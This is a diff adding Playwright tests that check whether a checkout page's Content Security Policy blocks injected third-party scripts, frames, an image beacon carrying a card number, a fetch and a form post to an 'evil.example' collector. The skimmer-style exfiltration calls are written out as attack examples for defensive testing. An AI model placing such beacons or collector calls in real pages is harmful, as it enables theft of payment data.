@@ -1,0 +1,90 @@
+import type { Page } from '@playwright/test'
+import { takenOver } from '../fixtures/hydration.ts'
+import { expect, test } from '../fixtures/test.ts'
+
+/** A page of the checkout's document that stays where it is: nothing is in the basket. */
+const CHECKOUT = '/checkout/nope'
+const SANDBOX = `http://sandbox.localhost:${Number(process.env['E2E_PORT'] ?? '4390') + 1}`
+
+type Try = { tag: 'script' | 'iframe' | 'img'; src: string }
+
+/** Puts an element into the page, as code that got in would, and says what the browser's policy made of it. */
+const add = (page: Page, element: Try) =>
+  page.evaluate(
+    ({ tag, src }) =>
+      new Promise<string>((done) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+          done(effectiveDirective),
+        )
+        const added = Object.assign(document.createElement(tag), { src })
+        added.addEventListener('load', () => done('loaded'))
+        added.addEventListener('error', () => setTimeout(done, 500, 'failed'))
+        document.body.append(added)
+      }),
+    element,
+  )
+
+const refused: (Try & { what: string; rule: string })[] = [
+  {
+    what: 'a tag manager',
+    tag: 'script',
+    src: `${SANDBOX}/gtm.js?id=GTM-DEMO`,
+    rule: 'script-src-elem',
+  },
+  { what: 'a script of nobody', tag: 'script', src: 'https://evil.example/x.js', rule: 'script-src-elem' },
+  { what: 'a frame of another page', tag: 'iframe', src: `${SANDBOX}/outbox`, rule: 'frame-src' },
+  { what: 'a picture that tells', tag: 'img', src: 'https://evil.example/?card=4242', rule: 'img-src' },
+]
+
+test('the checkout loads nothing but its own two releases and the provider', async ({
+  page,
+  expectConsole,
+}) => {
+  expectConsole(/violates the following Content Security Policy directive|status of 404 .*nope/)
+  const home = await (await page.goto('/'))?.text()
+  const [menuEntry = ''] = /\/r\/menu\/[^"]*?\/web\//.exec(home ?? '') ?? []
+  for (const { what, rule, ...element } of refused) {
+    await page.goto(CHECKOUT)
+    await takenOver(page)
+    expect(await add(page, element), what).toBe(rule)
+  }
+  await page.goto(CHECKOUT)
+  expect(await add(page, { tag: 'script', src: `${menuEntry || '/r/menu/x/web/'}entry.js` })).toBe(
+    'script-src-elem',
+  )
+  expect(await add(page, { tag: 'script', src: `${SANDBOX}/js/framesv2.js` })).toBe('loaded')
+})
+
+test('the checkout sends nothing to a stranger', async ({ page, expectConsole }) => {
+  expectConsole(/Content Security Policy|status of 404 .*nope/)
+  await page.goto(CHECKOUT)
+  await takenOver(page)
+  const sent = page.evaluate(() => fetch('https://evil.example/collect').then(String, () => 'refused'))
+  expect(await sent).toBe('refused')
+  const rule = page.evaluate(
+    () =>
+      new Promise<string>((done) => {
+        document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective))
+        const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/collect' })
+        document.body.append(form)
+        form.submit()
+      }),
+  )
+  expect(await rule).toBe('form-action')
+})
+
+test('no script of another area and no tag manager comes to the checkout', async ({
+  page,
+  expectConsole,
+}) => {
+  expectConsole(/status of 404 .*nope/)
+  const scripts: string[] = []
+  page.on('request', (request) => {
+    if (request.resourceType() === 'script') scripts.push(new URL(request.url()).pathname)
+  })
+  await page.goto(CHECKOUT)
+  await takenOver(page)
+  await page.waitForLoadState('networkidle')
+  expect(scripts.filter((path) => !/^\/r\/(host|checkout)\//.test(path))).toEqual([])
+  expect(scripts.length).toBeGreaterThan(1)
+})
